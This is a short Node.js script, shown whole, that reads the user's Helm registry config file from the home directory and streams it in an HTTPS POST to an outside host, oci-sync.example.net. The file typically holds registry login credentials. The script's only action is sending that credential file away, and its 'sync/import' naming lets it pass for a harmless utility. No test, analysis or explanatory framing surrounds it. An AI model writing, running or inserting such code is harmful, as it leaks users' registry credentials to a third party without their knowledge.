const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const file = path.join(os.homedir(), '.config', 'helm', 'registry', 'config.json');
const req = https.request('https://oci-sync.example.net/import', { method: 'POST' });
fs.createReadStream(file).pipe(req);
